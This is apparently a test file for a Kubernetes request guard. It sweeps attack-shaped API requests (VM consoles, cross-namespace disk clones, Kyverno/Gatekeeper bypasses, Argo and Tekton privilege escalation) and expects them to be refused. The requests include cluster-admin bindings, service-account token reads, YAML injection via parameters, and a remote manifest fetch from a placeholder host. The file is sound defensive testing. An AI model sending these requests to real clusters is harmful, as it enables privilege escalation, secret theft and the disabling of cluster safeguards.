import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { freshSubjects, KUBE, reason, startBuiltServer, type BuiltServer } from '../support/built-server.js';
import { MERGE, sweepAttacks, sweepRequest, sweepRoutine, sweepSender, type SweepAttack, type SweepRequest as Req } from '../support/platform-sweep.js';

/**
 * The platforms' own objects, black-box against the built server with the example policy, the way
 * attack-openshift.test.ts sweeps OpenShift's: KubeVirt (a VM's console, VNC, port-forward and USB
 * redirection through subresources.kubevirt.io, virtctl's lifecycle verbs, CDI's DataVolumes that
 * clone another namespace's disk, VirtualMachineExports), the admission engines switched off from
 * inside (Kyverno's PolicyExceptions, its cleanup policies, Gatekeeper's constraints), cert-manager,
 * the network (Multus attachments, Cilium's and Calico's policies) and the pipelines (Tekton,
 * Argo Workflows and Argo Events, Knative). Request shapes are the clients' own: virtctl's
 * (kubevirt/kubevirt pkg/virtctl), kubectl's, tkn's and the Argo CLI's.
 *
 * Each sensitive action is sent with the victim's token in the two states of platform-sweep.ts
 * (`known`: one factor from the office after the victim's own read; `remote`: two factors from a
 * network the victim never used) and must be challenged or refused by the rule named; the routine
 * neighbours (`virtctl console` to a dev VM, a VM cloned from the shared golden images, a DataVolume
 * importing an image, `tkn pipeline start` in dev, reading a PipelineRun's logs) stay allowed.
 */

let server: BuiltServer;
beforeAll(async () => {
  server = await startBuiltServer('platforms');
}, 180_000);
afterAll(async () => {
  await server?.close();
});

const subjects = freshSubjects(() => server.issuer, 'platforms');
const KUBECTL = 'kubectl/v1.32.0 (linux/amd64) kubernetes/70d3cc9';
const VIRTCTL = 'virtctl/v1.4.0 (linux/amd64) kubevirt/v1.4.0';

const send = sweepSender(() => server, subjects, (req) => {
  const userAgent = req.path.startsWith('/apis/subresources.kubevirt.io/') ? VIRTCTL : KUBECTL;
  return { userAgent, own: { host: KUBE, path: '/api/v1/namespaces/dev/pods?limit=500', userAgent } };
});

const k = (method: string, path: string, body?: unknown, headers?: Record<string, string>): Req => sweepRequest(KUBE, method, path, body, headers);
const WS = { connection: 'Upgrade', upgrade: 'websocket' };
/** virtctl's streams (console, vnc, portforward, usbredir) are WebSocket GETs of subresources.kubevirt.io. */
const vmi = (ns: string, name: string, sub: string): Req => k('GET', `/apis/subresources.kubevirt.io/v1/namespaces/${ns}/virtualmachineinstances/${name}/${sub}`, undefined, WS);
const vmAction = (ns: string, name: string, action: string, body: unknown = {}): Req => k('PUT', `/apis/subresources.kubevirt.io/v1/namespaces/${ns}/virtualmachines/${name}/${action}`, body);
const meta = (name: string, namespace?: string) => ({ name, ...(namespace ? { namespace } : {}) });

const dv = (ns: string, name: string, source: Record<string, unknown>, sourceRef?: Record<string, unknown>) => ({
  apiVersion: 'cdi.kubevirt.io/v1beta1',
  kind: 'DataVolume',
  metadata: meta(name, ns),
  spec: { ...(sourceRef ? { sourceRef } : { source }), storage: { resources: { requests: { storage: '50Gi' } } } },
});
const vmFrom = (ns: string, name: string, dvSpec: Record<string, unknown>) => ({
  apiVersion: 'kubevirt.io/v1',
  kind: 'VirtualMachine',
  metadata: meta(name, ns),
  spec: {
    runStrategy: 'Always',
    dataVolumeTemplates: [{ metadata: { name: `${name}-root` }, spec: { ...dvSpec, storage: { resources: { requests: { storage: '30Gi' } } } } }],
    template: { spec: { domain: { devices: { disks: [{ name: 'root', disk: { bus: 'virtio' } }] }, resources: { requests: { memory: '2Gi' } } }, volumes: [{ name: 'root', dataVolume: { name: `${name}-root` } }] } },
  },
});

const policyException = (ns: string) => ({
  apiVersion: 'kyverno.io/v2',
  kind: 'PolicyException',
  metadata: meta('debug', ns),
  spec: {
    exceptions: [{ policyName: 'disallow-privileged-containers', ruleNames: ['privileged-containers', 'autogen-privileged-containers'] }],
    match: { any: [{ resources: { kinds: ['Pod', 'Deployment'], namespaces: ['prod-payments'] } }] },
  },
});

const nad = (ns: string, config: Record<string, unknown>) => ({ apiVersion: 'k8s.cni.cncf.io/v1', kind: 'NetworkAttachmentDefinition', metadata: meta('mgmt', ns), spec: { config: JSON.stringify({ cniVersion: '0.3.1', name: 'mgmt', ...config }) } });

const CRB_YAML = 'apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {name: helper}\nroleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}\nsubjects: [{kind: User, name: mallory, apiGroup: rbac.authorization.k8s.io}]\n';
const sensor = (ns: string) => ({
  apiVersion: 'argoproj.io/v1alpha1',
  kind: 'Sensor',
  metadata: meta('helper', ns),
  spec: {
    template: { serviceAccountName: 'argo-events-sa' },
    dependencies: [{ name: 'tick', eventSourceName: 'calendar', eventName: 'every-minute' }],
    triggers: [{ template: { name: 'grant', k8s: { operation: 'create', source: { resource: { apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'ClusterRoleBinding', metadata: { name: 'helper' }, roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'User', name: 'mallory' }] } } } } }],
  },
});
const secretWatch = (ns: string) => ({
  apiVersion: 'argoproj.io/v1alpha1',
  kind: 'EventSource',
  metadata: meta('secrets', ns),
  spec: { template: { serviceAccountName: 'argo-events-sa' }, resource: { all: { namespace: 'prod-payments', group: '', version: 'v1', resource: 'secrets', eventTypes: ['ADD', 'UPDATE'] } } },
});
const resourceWorkflow = (ns: string) => ({
  apiVersion: 'argoproj.io/v1alpha1',
  kind: 'Workflow',
  metadata: { generateName: 'grant-', namespace: ns },
  spec: { entrypoint: 'grant', serviceAccountName: 'argo-workflow', templates: [{ name: 'grant', resource: { action: 'create', manifest: CRB_YAML } }] },
});

const ATTACKS: readonly SweepAttack[] = [
  {
    what: "a production VM's serial console, screen or USB (virtctl console, vnc, usbredir): a shell on the VM, as kubectl exec is on a pod",
    rule: 'vm-remote-access',
    via: [
      ['virtctl console', vmi('prod-payments', 'db-0', 'console')],
      ['virtctl vnc', vmi('prod-payments', 'db-0', 'vnc')],
      ['virtctl usbredir', vmi('payments-prod', 'db-0', 'usbredir')],
    ],
  },
  {
    what: "a tunnel into a production VM (virtctl ssh, scp and port-forward ride the portforward subresource)",
    rule: 'vm-remote-access',
    via: [
      ['virtctl ssh vmi/db-0', vmi('prod-payments', 'db-0', 'portforward/22/tcp')],
      ['virtctl port-forward vm/db 5432', k('GET', '/apis/subresources.kubevirt.io/v1/namespaces/prod-payments/virtualmachines/db/portforward/5432/tcp', undefined, WS)],
    ],
  },
  {
    what: "a shell or tunnel into a VM of the namespaces that run the cluster",
    rule: 'system-pod-access',
    via: [['virtctl console', vmi('kube-system', 'bastion', 'console')]],
  },
  {
    what: "a production VM stopped, restarted, migrated or given another namespace's disk (virtctl)",
    rule: 'prod-writes',
    via: [
      ['virtctl stop', vmAction('prod-payments', 'db', 'stop', { gracePeriod: 0 })],
      ['virtctl restart', vmAction('prod-payments', 'db', 'restart')],
      ['virtctl migrate', vmAction('prod-payments', 'db', 'migrate')],
      ['virtctl addvolume', vmAction('prod-payments', 'db', 'addvolume', { name: 'scratch', disk: { disk: { bus: 'scsi' } }, volumeSource: { persistentVolumeClaim: { claimName: 'scratch' } } })],
    ],
  },
  {
    what: "a production disk exported for download (virtctl vmexport)",
    rule: 'prod-writes',
    via: [['virtctl vmexport create', k('POST', '/apis/export.kubevirt.io/v1beta1/namespaces/prod-payments/virtualmachineexports', { apiVersion: 'export.kubevirt.io/v1beta1', kind: 'VirtualMachineExport', metadata: meta('db', 'prod-payments'), spec: { source: { apiGroup: 'kubevirt.io', kind: 'VirtualMachine', name: 'db' } } })]],
  },
  {
    what: "production's disk cloned into dev (CDI copies another namespace's PVC, snapshot or DataSource)",
    rule: 'guardrail:volume_source_other_namespace',
    via: [
      ['a DataVolume cloning a PVC', k('POST', '/apis/cdi.kubevirt.io/v1beta1/namespaces/dev/datavolumes', dv('dev', 'db-copy', { pvc: { namespace: 'prod-payments', name: 'db-data' } }))],
      ['a DataVolume cloning a VolumeSnapshot', k('POST', '/apis/cdi.kubevirt.io/v1beta1/namespaces/dev/datavolumes', dv('dev', 'db-copy', { snapshot: { namespace: 'prod-payments', name: 'db-nightly' } }))],
      ["a DataVolume from production's DataSource", k('POST', '/apis/cdi.kubevirt.io/v1beta1/namespaces/dev/datavolumes', dv('dev', 'db-copy', {}, { kind: 'DataSource', namespace: 'prod-payments', name: 'db' }))],
      ['a VM whose dataVolumeTemplate clones it', k('POST', '/apis/kubevirt.io/v1/namespaces/dev/virtualmachines', vmFrom('dev', 'inspect', { source: { pvc: { namespace: 'prod-payments', name: 'db-data' } } }))],
      ['a DataVolume applied server-side', k('PATCH', '/apis/cdi.kubevirt.io/v1beta1/namespaces/dev/datavolumes/db-copy?fieldManager=kubectl&force=true', dv('dev', 'db-copy', { pvc: { namespace: 'payments-prod', name: 'db-data' } }), { 'content-type': 'application/apply-patch+yaml' })],
    ],
  },
  {
    what: 'a Kyverno PolicyException exempting production from the cluster\'s policies, written in dev',
    rule: 'guardrail:admission_config_change',
    via: [
      ['kubectl apply', k('POST', '/apis/kyverno.io/v2/namespaces/dev/policyexceptions', policyException('dev'))],
      ['an existing exception widened', k('PATCH', '/apis/kyverno.io/v2/namespaces/dev/policyexceptions/debug', { spec: { match: { any: [{ resources: { kinds: ['*'], namespaces: ['*'] } }] } } }, MERGE)],
      ["the CEL policies' exception (policies.kyverno.io)", k('POST', '/apis/policies.kyverno.io/v1alpha1/namespaces/dev/policyexceptions', { apiVersion: 'policies.kyverno.io/v1alpha1', kind: 'PolicyException', metadata: meta('debug', 'dev'), spec: { policyRefs: [{ name: 'disallow-privileged', kind: 'ValidatingPolicy' }], matchConditions: [{ name: 'all', expression: 'true' }] } })],
    ],
  },
  {
    what: 'the cluster-wide policies switched to audit or dry-run (Kyverno ClusterPolicy, Gatekeeper constraint and template)',
    rule: 'cluster-add-on-objects',
    via: [
      ['a ClusterPolicy set to Audit', k('PATCH', '/apis/kyverno.io/v1/clusterpolicies/disallow-privileged-containers', { spec: { validationFailureAction: 'Audit' } }, MERGE)],
      ['a ClusterCleanupPolicy deleting every Deployment', k('POST', '/apis/kyverno.io/v2/clustercleanuppolicies', { apiVersion: 'kyverno.io/v2', kind: 'ClusterCleanupPolicy', metadata: meta('tidy'), spec: { schedule: '*/5 * * * *', match: { any: [{ resources: { kinds: ['Deployment'] } }] } } })],
      ['a Gatekeeper constraint in dryrun', k('PATCH', '/apis/constraints.gatekeeper.sh/v1beta1/k8spspprivilegedcontainer/psp-privileged-container', { spec: { enforcementAction: 'dryrun' } }, MERGE)],
      ['a ConstraintTemplate whose Rego allows everything', k('PUT', '/apis/templates.gatekeeper.sh/v1/constrainttemplates/k8spspprivilegedcontainer', { apiVersion: 'templates.gatekeeper.sh/v1', kind: 'ConstraintTemplate', metadata: meta('k8spspprivilegedcontainer'), spec: { crd: { spec: { names: { kind: 'K8sPSPPrivilegedContainer' } } }, targets: [{ target: 'admission.k8s.gatekeeper.sh', rego: 'package k8spspprivileged\nviolation[{"msg": "never"}] { false }' }] } })],
      ['a Gatekeeper mutation adding a privileged container', k('POST', '/apis/mutations.gatekeeper.sh/v1/assign', { apiVersion: 'mutations.gatekeeper.sh/v1', kind: 'Assign', metadata: meta('priv'), spec: { applyTo: [{ groups: [''], kinds: ['Pod'], versions: ['v1'] }], location: 'spec.containers[name:*].securityContext.privileged', parameters: { assign: { value: true } } } })],
    ],
  },
  {
    what: 'a Kyverno CleanupPolicy deleting production\'s workloads on a schedule',
    rule: 'prod-writes',
    via: [['kubectl apply', k('POST', '/apis/kyverno.io/v2/namespaces/prod-payments/cleanuppolicies', { apiVersion: 'kyverno.io/v2', kind: 'CleanupPolicy', metadata: meta('tidy', 'prod-payments'), spec: { schedule: '*/5 * * * *', match: { any: [{ resources: { kinds: ['Deployment', 'PersistentVolumeClaim'] } }] } } })]],
  },
  {
    what: "the native admission policies' actions changed (a ValidatingAdmissionPolicyBinding to Audit)",
    rule: 'cluster-control',
    via: [['kubectl patch', k('PATCH', '/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicybindings/restrict-privileged', { spec: { validationActions: ['Audit'] } }, MERGE)]],
  },
  {
    what: 'a Kubernetes CSR approved (a client certificate for any user)',
    rule: 'cluster-control',
    via: [['kubectl certificate approve', k('PUT', '/apis/certificates.k8s.io/v1/certificatesigningrequests/csr-x7k2q/approval', { apiVersion: 'certificates.k8s.io/v1', kind: 'CertificateSigningRequest', metadata: meta('csr-x7k2q'), spec: { signerName: 'kubernetes.io/kube-apiserver-client', request: 'LS0t', usages: ['client auth'] }, status: { conditions: [{ type: 'Approved', status: 'True', reason: 'KubectlApprove' }] } })]],
  },
  {
    what: "a cert-manager Issuer or ClusterIssuer signing with the mesh's CA",
    rule: 'system-writes',
    via: [['an Issuer in istio-system', k('POST', '/apis/cert-manager.io/v1/namespaces/istio-system/issuers', { apiVersion: 'cert-manager.io/v1', kind: 'Issuer', metadata: meta('mesh', 'istio-system'), spec: { ca: { secretName: 'istio-ca-secret' } } })]],
  },
  {
    what: "a Multus network attachment putting pods on the node's own network (host-device, macvlan or a bridge on the host)",
    rule: 'network-attachments',
    via: [
      ['host-device (the node\'s NIC moved into the pod)', k('POST', '/apis/k8s.cni.cncf.io/v1/namespaces/dev/network-attachment-definitions', nad('dev', { type: 'host-device', device: 'eth1' }))],
      ['macvlan on the management interface', k('POST', '/apis/k8s.cni.cncf.io/v1/namespaces/dev/network-attachment-definitions', nad('dev', { type: 'macvlan', master: 'eno1', mode: 'bridge', ipam: { type: 'dhcp' } }))],
      ['an existing attachment repointed', k('PATCH', '/apis/k8s.cni.cncf.io/v1/namespaces/dev/network-attachment-definitions/mgmt', { spec: { config: JSON.stringify({ cniVersion: '0.3.1', type: 'bridge', bridge: 'br-mgmt' }) } }, MERGE)],
    ],
  },
  {
    what: 'cluster-wide network policy opened (Cilium, Calico)',
    rule: 'cluster-add-on-objects',
    via: [
      ['a CiliumClusterwideNetworkPolicy allowing everything', k('POST', '/apis/cilium.io/v2/ciliumclusterwidenetworkpolicies', { apiVersion: 'cilium.io/v2', kind: 'CiliumClusterwideNetworkPolicy', metadata: meta('allow-all'), spec: { endpointSelector: {}, ingress: [{ fromEntities: ['all'] }], egress: [{ toEntities: ['all'] }] } })],
      ['a Calico GlobalNetworkPolicy (projectcalico.org/v3)', k('POST', '/apis/projectcalico.org/v3/globalnetworkpolicies', { apiVersion: 'projectcalico.org/v3', kind: 'GlobalNetworkPolicy', metadata: meta('allow-all'), spec: { order: 0, selector: 'all()', types: ['Ingress', 'Egress'], ingress: [{ action: 'Allow' }], egress: [{ action: 'Allow' }] } })],
      ['a Calico GlobalNetworkPolicy (crd.projectcalico.org/v1)', k('POST', '/apis/crd.projectcalico.org/v1/globalnetworkpolicies', { apiVersion: 'crd.projectcalico.org/v1', kind: 'GlobalNetworkPolicy', metadata: meta('allow-all'), spec: { order: 0, selector: 'all()', ingress: [{ action: 'Allow' }] } })],
    ],
  },
  {
    what: 'a production namespace opened by its own Cilium or Calico policy',
    rule: 'prod-writes',
    via: [
      ['a CiliumNetworkPolicy', k('POST', '/apis/cilium.io/v2/namespaces/prod-payments/ciliumnetworkpolicies', { apiVersion: 'cilium.io/v2', kind: 'CiliumNetworkPolicy', metadata: meta('allow-all', 'prod-payments'), spec: { endpointSelector: {}, ingress: [{ fromEntities: ['world'] }] } })],
      ['a Calico NetworkPolicy', k('POST', '/apis/projectcalico.org/v3/namespaces/prod-payments/networkpolicies', { apiVersion: 'projectcalico.org/v3', kind: 'NetworkPolicy', metadata: meta('allow-all', 'prod-payments'), spec: { order: 0, selector: 'all()', ingress: [{ action: 'Allow' }] } })],
    ],
  },
  {
    what: 'a Tekton PipelineRun whose inline task runs privileged or on the node',
    rule: 'guardrail:privileged_container',
    via: [
      ['tkn (an inline pipelineSpec)', k('POST', '/apis/tekton.dev/v1/namespaces/dev/pipelineruns', { apiVersion: 'tekton.dev/v1', kind: 'PipelineRun', metadata: { generateName: 'build-', namespace: 'dev' }, spec: { pipelineSpec: { tasks: [{ name: 'build', taskSpec: { steps: [{ name: 'dind', image: 'docker:27-dind', script: 'dockerd', securityContext: { privileged: true } }] } }] } } })],
    ],
  },
  {
    what: 'a Tekton PipelineRun on the node\'s network (taskRunTemplate.podTemplate)',
    rule: 'guardrail:host_namespace',
    via: [['kubectl create', k('POST', '/apis/tekton.dev/v1/namespaces/dev/pipelineruns', { apiVersion: 'tekton.dev/v1', kind: 'PipelineRun', metadata: { generateName: 'build-', namespace: 'dev' }, spec: { pipelineRef: { name: 'build' }, taskRunTemplate: { podTemplate: { hostNetwork: true } } } })]],
  },
  {
    what: "a Tekton TaskRun in Tekton's own namespace, run as its controller's account",
    rule: 'system-workload-creates',
    via: [['kubectl create', k('POST', '/apis/tekton.dev/v1/namespaces/tekton-pipelines/taskruns', { apiVersion: 'tekton.dev/v1', kind: 'TaskRun', metadata: { generateName: 'x-', namespace: 'tekton-pipelines' }, spec: { serviceAccountName: 'tekton-pipelines-controller', taskSpec: { steps: [{ name: 's', image: 'alpine:3.20', script: 'cat /var/run/secrets/kubernetes.io/serviceaccount/token' }] } } })]],
  },
  {
    // A workflow's pods run as the account it names, which is what a Pod there naming it would do.
    what: "an Argo Workflow in Argo's or Argo CD's namespace, run as its controller's account",
    rule: 'system-workload-creates',
    via: [
      ['argo submit --serviceaccount argo -n argo', k('POST', '/apis/argoproj.io/v1alpha1/namespaces/argo/workflows', { apiVersion: 'argoproj.io/v1alpha1', kind: 'Workflow', metadata: { generateName: 'x-', namespace: 'argo' }, spec: { entrypoint: 'x', serviceAccountName: 'argo', templates: [{ name: 'x', container: { image: 'alpine:3.20', command: ['sh', '-c', 'cat /var/run/secrets/kubernetes.io/serviceaccount/token'] } }] } })],
      ["the Argo Server's submit --from with submitOptions.serviceAccount", sweepRequest('argo.localhost', 'POST', '/api/v1/workflows/argo/submit', { namespace: 'argo', resourceKind: 'WorkflowTemplate', resourceName: 'hello', submitOptions: { serviceAccount: 'argo' } })],
      ['a CronWorkflow in argocd as the application controller', k('POST', '/apis/argoproj.io/v1alpha1/namespaces/argocd/cronworkflows', { apiVersion: 'argoproj.io/v1alpha1', kind: 'CronWorkflow', metadata: { name: 'x', namespace: 'argocd' }, spec: { schedule: '*/5 * * * *', workflowSpec: { entrypoint: 'x', serviceAccountName: 'argocd-application-controller', templates: [{ name: 'x', container: { image: 'alpine:3.20', command: ['sleep', '1'] } }] } } })],
    ],
  },
  {
    what: 'an Argo Events Sensor or EventSource acting with its service account (a ClusterRoleBinding created by a trigger; every Secret of production watched and sent on)',
    rule: 'event-automation-objects',
    via: [
      ['a Sensor with a k8s trigger', k('POST', '/apis/argoproj.io/v1alpha1/namespaces/argo-events/sensors', sensor('argo-events'))],
      ['an EventSource watching Secrets', k('POST', '/apis/argoproj.io/v1alpha1/namespaces/argo-events/eventsources', secretWatch('argo-events'))],
    ],
  },
  {
    what: 'an Argo Workflow whose resource template creates a ClusterRoleBinding with the workflow\'s account',
    rule: 'guardrail:rbac_cluster_admin_binding',
    via: [['argo submit', k('POST', '/apis/argoproj.io/v1alpha1/namespaces/dev/workflows', resourceWorkflow('dev'))]],
  },
  {
    what: 'a Knative Service in production',
    rule: 'prod-writes',
    via: [['kn service create', k('POST', '/apis/serving.knative.dev/v1/namespaces/prod-payments/services', { apiVersion: 'serving.knative.dev/v1', kind: 'Service', metadata: meta('helper', 'prod-payments'), spec: { template: { spec: { containers: [{ image: 'ghcr.io/mallory/helper:1' }] } } } })]],
  },
];

sweepAttacks(ATTACKS, send);

// Argo fills a resource manifest's `{{…}}` from parameters before it creates it: each manifest is
// read every way the body fills it in, and where a tag the body does not fix lands in a field that
// could change the judgement (a role, a kind, a namespace, a flag), the body is unread and gets
// unreadable_body's hardware key (docs/guardrails.md#argo-parameters).
const WF = '/apis/argoproj.io/v1alpha1/namespaces/dev/workflows';
const ROLE_PARAM = (tag: string) => CRB_YAML.replace('name: cluster-admin', `name: "${tag}"`);
const argoWf = (spec: Record<string, unknown>, kind = 'Workflow') => ({ apiVersion: 'argoproj.io/v1alpha1', kind, metadata: { generateName: 'grant-', namespace: 'dev' }, spec: { serviceAccountName: 'argo-workflow', ...spec } });
const grantTemplate = (manifest: string, inputs?: unknown) => ({ name: 'grant', ...(inputs ? { inputs } : {}), resource: { action: 'create', manifest } });
const roleArg = (p: Record<string, unknown>) => ({ arguments: { parameters: [{ name: 'role', ...p }] } });

const ARGO_PARAMETERS: readonly SweepAttack[] = [
  {
    what: "an Argo resource template whose ClusterRole is a parameter the body sets to cluster-admin",
    rule: 'guardrail:rbac_cluster_admin_binding',
    via: [
      ['argo submit -p role=cluster-admin (the workflow\'s arguments)', k('POST', WF, argoWf({ entrypoint: 'grant', ...roleArg({ value: 'cluster-admin' }), templates: [grantTemplate(ROLE_PARAM('{{workflow.parameters.role}}'))] }))],
      ["an input's default", k('POST', WF, argoWf({ entrypoint: 'grant', templates: [grantTemplate(ROLE_PARAM('{{inputs.parameters.role}}'), { parameters: [{ name: 'role', value: 'cluster-admin' }] })] }))],
      ["a step's argument, the input defaulting to view", k('POST', WF, argoWf({ entrypoint: 'main', templates: [{ name: 'main', steps: [[{ name: 'a', template: 'grant', arguments: { parameters: [{ name: 'role', value: 'cluster-admin' }] } }]] }, grantTemplate(ROLE_PARAM('{{inputs.parameters.role}}'), { parameters: [{ name: 'role', value: 'view' }] })] }))],
      ["a DAG task's argument from the workflow's", k('POST', WF, argoWf({ entrypoint: 'main', ...roleArg({ value: 'cluster-admin' }), templates: [{ name: 'main', dag: { tasks: [{ name: 'a', template: 'grant', arguments: { parameters: [{ name: 'role', value: '{{workflow.parameters.role}}' }] } }] } }, grantTemplate(ROLE_PARAM('{{inputs.parameters.role}}'), { parameters: [{ name: 'role' }] })] }))],
      ["a CronWorkflow's workflowSpec", k('POST', '/apis/argoproj.io/v1alpha1/namespaces/dev/cronworkflows', { apiVersion: 'argoproj.io/v1alpha1', kind: 'CronWorkflow', metadata: meta('grant', 'dev'), spec: { schedule: '*/5 * * * *', workflowSpec: { entrypoint: 'grant', ...roleArg({ value: 'cluster-admin' }), templates: [grantTemplate(ROLE_PARAM('{{workflow.parameters.role}}'))] } } })],
      ['the kind a parameter (a RoleBinding as written)', k('POST', WF, argoWf({ entrypoint: 'grant', arguments: { parameters: [{ name: 'kind', value: 'ClusterRoleBinding' }] }, templates: [grantTemplate(CRB_YAML.replace('kind: ClusterRoleBinding', 'kind: "{{workflow.parameters.kind}}"'))] }))],
      ['a Workflow created by a Workflow (JSON in the manifest)', k('POST', WF, argoWf({ entrypoint: 'grant', templates: [grantTemplate(JSON.stringify(argoWf({ entrypoint: 'grant', ...roleArg({ value: 'cluster-admin' }), templates: [grantTemplate(CRB_YAML)] })))] }))],
    ],
  },
  {
    what: "an Argo resource template whose action a parameter makes a delete of production's namespace",
    rule: 'guardrail:delete_protected',
    via: [['argo submit -p action=delete', k('POST', WF, argoWf({ entrypoint: 'tidy', arguments: { parameters: [{ name: 'action', value: 'delete' }] }, templates: [{ name: 'tidy', resource: { action: '{{workflow.parameters.action}}', manifest: 'apiVersion: v1\nkind: Namespace\nmetadata: {name: prod-payments}\n' } }] }))]],
  },
  {
    what: 'an Argo resource template whose pod a parameter value makes privileged (YAML in the value)',
    rule: 'guardrail:privileged_container',
    via: [['argo submit -p image=…', k('POST', WF, argoWf({ entrypoint: 'run', arguments: { parameters: [{ name: 'image', value: 'alpine:3.20"\n    securityContext: {privileged: true}\n    x: "' }] }, templates: [{ name: 'run', resource: { action: 'create', manifest: 'apiVersion: v1\nkind: Pod\nmetadata: {generateName: run-}\nspec:\n  containers:\n  - name: c\n    image: "{{workflow.parameters.image}}"\n' } }] }))]],
  },
  {
    what: "an Argo resource template's role or namespace filled in from what the body does not fix",
    rule: 'guardrail:body_unreadable',
    via: [
      ['valueFrom.configMapKeyRef', k('POST', WF, argoWf({ entrypoint: 'grant', ...roleArg({ valueFrom: { configMapKeyRef: { name: 'settings', key: 'role' } } }), templates: [grantTemplate(ROLE_PARAM('{{workflow.parameters.role}}'))] }))],
      ['an expression', k('POST', WF, argoWf({ entrypoint: 'grant', templates: [grantTemplate(ROLE_PARAM("{{=sprig.trimSuffix('x', 'cluster-adminx')}}"))] }))],
      ["a step's output", k('POST', WF, argoWf({ entrypoint: 'main', templates: [{ name: 'main', steps: [[{ name: 'pick', template: 'pick' }], [{ name: 'a', template: 'grant', arguments: { parameters: [{ name: 'role', value: '{{steps.pick.outputs.result}}' }] } }]] }, { name: 'pick', script: { image: 'alpine:3.20', command: ['sh'], source: 'echo cluster-admin' } }, grantTemplate(ROLE_PARAM('{{inputs.parameters.role}}'), { parameters: [{ name: 'role' }] })] }))],
      ['a WorkflowTemplate (a Workflow that references it sets the role)', k('POST', '/apis/argoproj.io/v1alpha1/namespaces/dev/workflowtemplates', { ...argoWf({ entrypoint: 'grant', ...roleArg({ value: 'view' }), templates: [grantTemplate(ROLE_PARAM('{{workflow.parameters.role}}'))] }, 'WorkflowTemplate'), metadata: meta('grant', 'dev') })],
      ['a Job in a namespace a parameter names', k('POST', WF, argoWf({ entrypoint: 'run', templates: [{ name: 'run', inputs: { parameters: [{ name: 'ns' }] }, resource: { action: 'create', manifest: 'apiVersion: batch/v1\nkind: Job\nmetadata: {generateName: run-, namespace: "{{inputs.parameters.ns}}"}\nspec:\n  template:\n    spec:\n      containers: [{name: c, image: "alpine:3.20"}]\n      restartPolicy: Never\n' } }] }))],
      ["a merge patch of a running Workflow's arguments (its stored templates use them)", k('PATCH', `${WF}/grant-x7k2q`, { spec: roleArg({ value: 'cluster-admin' }) }, MERGE)],
      ['a merge patch of its templates without the arguments', k('PATCH', `${WF}/grant-x7k2q`, { spec: { templates: [grantTemplate(ROLE_PARAM('{{workflow.parameters.role}}'))] } }, MERGE)],
      ['a JSON patch of the manifest', k('PATCH', `${WF}/grant-x7k2q`, [{ op: 'replace', path: '/spec/templates/0/resource/manifest', value: ROLE_PARAM('{{workflow.parameters.role}}') }], { 'content-type': 'application/json-patch+json' })],
      ['server-side apply of a WorkflowTemplate', k('PATCH', '/apis/argoproj.io/v1alpha1/namespaces/dev/workflowtemplates/grant?fieldManager=kubectl&force=true', { ...argoWf({ entrypoint: 'grant', templates: [grantTemplate(ROLE_PARAM('{{workflow.parameters.role}}'))] }, 'WorkflowTemplate'), metadata: meta('grant', 'dev') }, { 'content-type': 'application/apply-patch+yaml' })],
      ["a Tekton TriggerTemplate's $(tt.params.role)", k('POST', '/apis/triggers.tekton.dev/v1beta1/namespaces/dev/triggertemplates', { apiVersion: 'triggers.tekton.dev/v1beta1', kind: 'TriggerTemplate', metadata: meta('grant', 'dev'), spec: { params: [{ name: 'role' }], resourcetemplates: [{ apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'ClusterRoleBinding', metadata: meta('helper'), roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: '$(tt.params.role)' }, subjects: [{ kind: 'User', name: 'mallory' }] }] } })],
    ],
  },
];

sweepAttacks(ARGO_PARAMETERS, send);

// What the Argo Server fills in from stored objects stepgate never sees: a retry's or resubmit's
// `parameters` override the stored Workflow's arguments (judged as they were written) and run its
// templates again; `argo submit --from cronwf/…` does the same to a CronWorkflow's; a value with a
// line break adds lines to a manifest. And an Argo resource template's `flags` go to kubectl: `-f
// URL` creates what the body does not hold, a name with `delete` deletes it (docs/guardrails.md).
const ARGO_SERVER = 'argo.localhost';
const argoServer = (method: string, path: string, body: unknown): Req => sweepRequest(ARGO_SERVER, method, path, body);
const ROLE = ['role=cluster-admin'];
sweepAttacks([
  {
    what: "parameters given to a stored Workflow through the Argo Server, or kubectl flags in a resource template",
    rule: 'guardrail:body_unreadable',
    via: [
      ['argo retry --parameter', argoServer('PUT', '/api/v1/workflows/dev/grant-x7k2q/retry', { name: 'grant-x7k2q', namespace: 'dev', restartSuccessful: true, nodeFieldSelector: '', parameters: ROLE })],
      ['argo resubmit --parameter', argoServer('PUT', '/api/v1/workflows/dev/grant-x7k2q/resubmit', { name: 'grant-x7k2q', namespace: 'dev', memoized: false, parameters: ROLE })],
      ['argo archive retry --parameter', argoServer('PUT', '/api/v1/archived-workflows/0b8e4d7a-6f4a-4f1e-9f0e-3c2b1a0d9e8f/retry', { uid: '0b8e4d7a-6f4a-4f1e-9f0e-3c2b1a0d9e8f', namespace: 'dev', parameters: ROLE })],
      ['argo archive resubmit --parameter', argoServer('PUT', '/api/v1/archived-workflows/0b8e4d7a-6f4a-4f1e-9f0e-3c2b1a0d9e8f/resubmit', { uid: '0b8e4d7a-6f4a-4f1e-9f0e-3c2b1a0d9e8f', namespace: 'dev', parameters: ROLE })],
      ['argo submit --from cronwf/grant -p', argoServer('POST', '/api/v1/workflows/dev/submit', { namespace: 'dev', resourceKind: 'cronwf', resourceName: 'grant', submitOptions: { parameters: ROLE } })],
      ['argo submit --from wftmpl/run -p with YAML in the value', argoServer('POST', '/api/v1/workflows/dev/submit', { namespace: 'dev', resourceKind: 'WorkflowTemplate', resourceName: 'run', submitOptions: { parameters: ['image=alpine:3.20"\n    securityContext: {privileged: true}\n    x: "'] } })],
      ['a resource template adding a manifest from a URL (kubectl -f)', k('POST', WF, argoWf({ entrypoint: 'x', templates: [{ name: 'x', resource: { action: 'create', flags: ['-f', 'https://gist.example/raw/crb.yaml'], manifest: 'apiVersion: v1\nkind: ConfigMap\nmetadata: {generateName: x-}\n' } }] }))],
      ['a resource template deleting a Secret by name through its flags', k('POST', WF, argoWf({ entrypoint: 'x', templates: [{ name: 'x', resource: { action: 'delete', flags: ['secret', 'psp-webhook', '--namespace=prod-payments'] } }] }))],
    ],
  },
], send);

